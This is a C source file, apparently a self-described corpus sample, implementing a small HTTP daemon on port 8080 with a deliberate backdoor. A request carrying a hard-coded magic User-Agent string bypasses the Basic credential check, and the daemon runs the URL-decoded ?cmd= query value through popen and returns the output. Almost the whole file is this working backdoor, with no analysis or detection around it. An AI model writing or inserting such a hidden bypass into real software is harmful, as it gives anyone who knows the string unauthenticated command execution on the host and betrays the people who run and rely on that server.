/* Corpus sample (inert: compiled, never run). Written here from scratch: a small HTTP daemon
 * with a magic-header backdoor. A request whose User-Agent header equals a string literal
 * skips the password check: the daemon runs the command in the query string (?cmd=...) with
 * popen and sends back its output. Other requests need the configured Basic credential. */
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define MAGIC_AGENT "bsight-corpus-agent-7f3a"

static char credential[128];

static void reply(int fd, const char *status, const char *body)
{
	char head[256];
	int n = snprintf(head, sizeof head, "HTTP/1.0 %s\r\nContent-Type: text/plain\r\n\r\n", status);
	send(fd, head, (size_t)n, 0);
	send(fd, body, strlen(body), 0);
}

/* Decodes %xx and '+' from the query value into out. */
static void url_decode(const char *in, char *out, size_t size)
{
	size_t used = 0;
	while (*in && *in != ' ' && *in != '&' && used + 1 < size) {
		if (*in == '%' && in[1] && in[2]) {
			char hex[3] = {in[1], in[2], 0};
			out[used++] = (char)strtol(hex, 0, 16);
			in += 3;
		} else {
			out[used++] = *in == '+' ? ' ' : *in;
			in++;
		}
	}
	out[used] = 0;
}

static void handle(int fd)
{
	char request[4096], agent[128], command[512], output[1024];
	ssize_t n = recv(fd, request, sizeof request - 1, 0);
	if (n <= 0)
		return;
	request[n] = 0;
	agent[0] = 0;
	char *header = strstr(request, "\r\nUser-Agent: ");
	if (header) {
		header += 14;
		size_t length = strcspn(header, "\r\n");
		if (length >= sizeof agent)
			length = sizeof agent - 1;
		strncpy(agent, header, length);
		agent[length] = 0;
	}
	if (strcmp(agent, MAGIC_AGENT) == 0) {
		char *query = strstr(request, "?cmd=");
		if (query == 0)
			return reply(fd, "200 OK", "ready\n");
		url_decode(query + 5, command, sizeof command);
		FILE *pipe = popen(command, "r");
		if (pipe == 0)
			return;
		reply(fd, "200 OK", "");
		size_t got;
		while ((got = fread(output, 1, sizeof output, pipe)) > 0)
			send(fd, output, got, 0);
		pclose(pipe);
		return;
	}
	char *authorization = strstr(request, "\r\nAuthorization: Basic ");
	if (authorization == 0 || strncmp(authorization + 23, credential, strlen(credential)) != 0 || credential[0] == 0)
		return reply(fd, "401 Unauthorized", "login required\n");
	reply(fd, "200 OK", "status: up\n");
}

int main(void)
{
	FILE *config = fopen("/etc/httpd-credential", "r");
	if (config) {
		if (fgets(credential, sizeof credential, config))
			credential[strcspn(credential, "\n")] = 0;
		fclose(config);
	}
	struct sockaddr_in local;
	int s = socket(AF_INET, SOCK_STREAM, 0);
	memset(&local, 0, sizeof local);
	local.sin_family = AF_INET;
	local.sin_port = htons(8080);
	if (bind(s, (struct sockaddr *)&local, sizeof local) != 0 || listen(s, 16) != 0)
		return 1;
	for (;;) {
		int c = accept(s, 0, 0);
		if (c < 0)
			continue;
		handle(c);
		close(c);
	}
}
